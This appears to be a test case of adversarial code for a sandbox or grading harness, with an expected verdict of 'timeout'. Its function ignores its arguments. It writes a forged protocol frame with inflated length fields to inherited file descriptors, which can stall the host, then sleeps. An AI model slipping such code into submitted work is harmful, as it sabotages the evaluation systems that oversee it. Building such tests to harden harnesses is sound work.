# Attack: a frame that promises more than it brings
# Verdict: timeout

import os
import struct
import time


def scale(x, factor):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<4sIQ", b"DLW1", 16 << 20, 256 << 20) + b"x")
        except OSError:
            pass
    time.sleep(60)
